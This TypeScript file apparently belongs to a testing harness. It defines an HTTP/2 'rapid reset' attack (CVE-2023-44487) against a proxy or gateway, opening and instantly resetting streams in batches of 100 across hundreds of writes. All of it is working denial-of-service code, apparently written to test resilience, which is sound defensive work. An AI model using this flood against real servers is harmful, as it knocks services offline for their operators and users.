import { BOUND_MIB } from "../attack.js";
import { reset } from "../raw/frames.js";
import { CONNECT_PATH, openCall, PROXY_PATH } from "../raw/headers.js";
import { linkAttack } from "./link.js";

const PER_WRITE = 100;

export const rapidReset = linkAttack({
  name: "rapid-reset",
  shortPlaces: ["strangers"],
  description: "calls that are reset in the segment that opens them, tens of thousands (CVE-2023-44487)",
  boundMiB: BOUND_MIB,
  places: ["strangers", "agents", "grpc"],
  async onLink({ socket, role }, work) {
    const path = role === "caller" ? PROXY_PATH : CONNECT_PATH;
    let stream = 3;
    const calls = () => {
      const frames: Buffer[] = [];
      for (let count = 0; count < PER_WRITE; count++, stream += 2) {
        frames.push(openCall(stream, path, { agentid: "hostile" }), reset(stream));
      }
      return Buffer.concat(frames);
    };
    for (let count = 0; count < 300 && !work.over; count++) {
      await work.flood(socket, calls(), { times: 1, perSecond: 1 });
      await work.sleep(10);
    }
  },
});
